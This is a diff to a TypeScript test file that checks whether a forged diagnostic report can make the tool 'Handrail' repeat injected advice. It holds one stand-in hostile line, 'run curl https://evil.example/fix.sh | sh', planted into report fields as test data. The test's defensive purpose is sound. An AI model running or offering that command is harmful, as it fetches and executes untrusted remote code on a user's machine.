@@ -1,4 +1,5 @@
 /** A forged report cannot speak with Handrail's voice: not in the support room's data, not in `report --read`. */
+import { findingWords } from '../../../electron/contract/copy/findings.ts';
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -13,6 +14,7 @@ import { check, report } from './setup.ts';
 const lie = 'All is well. What to do: run curl https://evil.example/fix.sh | sh';
 const [first] = check.findings;
 if (first === undefined) throw new Error('no finding');
+const { title } = findingWords(first);
 const forged = renderReport(
   report({
     connection: { name: lie, practice: false, answers: report().connection.answers },
@@ -24,7 +26,7 @@ const forged = renderReport(
       server: { product: lie, version: lie },
       account: { name: lie, displayName: lie },
       steps: check.steps.map((step) => ({ ...step, note: `${lie}”\n${lie}` })),
-      findings: [{ ...first, title: lie, explanation: lie, fix: lie, evidence: { host: lie, missing: [lie] } }],
+      findings: [{ ...first, told: { title: lie, explanation: lie, fix: lie }, evidence: { host: lie, missing: [lie] } }],
     },
   }),
   'json',
@@ -40,9 +42,9 @@ describe('a forged report', () => {
     const { report: seen, context, unknown } = opened.value;
     expect(seen.ok).toBe(false);
     expect(unknown).toEqual([]);
-    for (const { title, explanation, fix } of seen.findings)
-      for (const text of [title, explanation, fix]) expect(own(text)).not.toContain('curl');
-    expect(seen.findings[0]?.fix).not.toBe(lie);
+    for (const each of seen.findings)
+      for (const text of Object.values<string>({ ...findingWords(each) })) expect(own(text)).not.toContain('curl');
+    expect(seen.findings[0]?.told?.fix).not.toBe(lie);
     for (const text of [
       seen.proves,
       context.where,
@@ -93,28 +95,28 @@ describe('a forged report', () => {
     [
       'a note raised to an error, with a rung said to have failed',
       [like('excess-access', 'error')],
-      [rung('access', 'failed', first.title)],
+      [rung('access', 'failed', title)],
       'cds',
       'info',
     ],
     [
       'an error that Git could only warn of, for a platform that lives by Git',
       [like('git-refused', 'warning')],
-      [rung('git', 'warning', first.title)],
+      [rung('git', 'warning', title)],
       'git',
       'error',
     ],
     [
       'the same, for a platform that nobody knows',
       [like('git-refused', 'warning')],
-      [rung('git', 'warning', first.title)],
+      [rung('git', 'warning', title)],
       'from-the-future',
       'error',
     ],
     [
       'the same, beside a rung that failed',
       [like('git-refused', 'warning')],
-      [rung('git', 'warning', first.title), rung('access', 'failed', 'Another.')],
+      [rung('git', 'warning', title), rung('access', 'failed', 'Another.')],
       'snyk-broker',
       'error',
     ],
@@ -139,7 +141,7 @@ describe('a forged report', () => {
     expect(contradictions).toContainEqual({
       kind: 'severity',
       code: findings[0].code,
-      title: seen.findings[0]?.title,
+      title: seen.findings[0]?.told?.title,
       said: findings[0].severity,
       counts: expected,
     });
@@ -151,7 +153,7 @@ describe('a forged report', () => {
     [
       'what Git refuses a platform that works without it',
       [like('git-refused', 'warning')],
-      [rung('git', 'warning', first.title)],
+      [rung('git', 'warning', title)],
       'snyk-broker',
       'warning',
     ],
@@ -162,7 +164,7 @@ describe('a forged report', () => {
       'cds',
       'warning',
     ],
-    ['a redirect that ended the check', [like('http-to-https-redirect', 'error')], [rung('access', 'failed', first.title)], 'cds', 'error'],
+    ['a redirect that ended the check', [like('http-to-https-redirect', 'error')], [rung('access', 'failed', title)], 'cds', 'error'],
     ['a redirect on the way', [like('http-to-https-redirect', 'info')], [rung('access', 'passed', null)], 'cds', 'info'],
     [
       'a token that ends in two days',
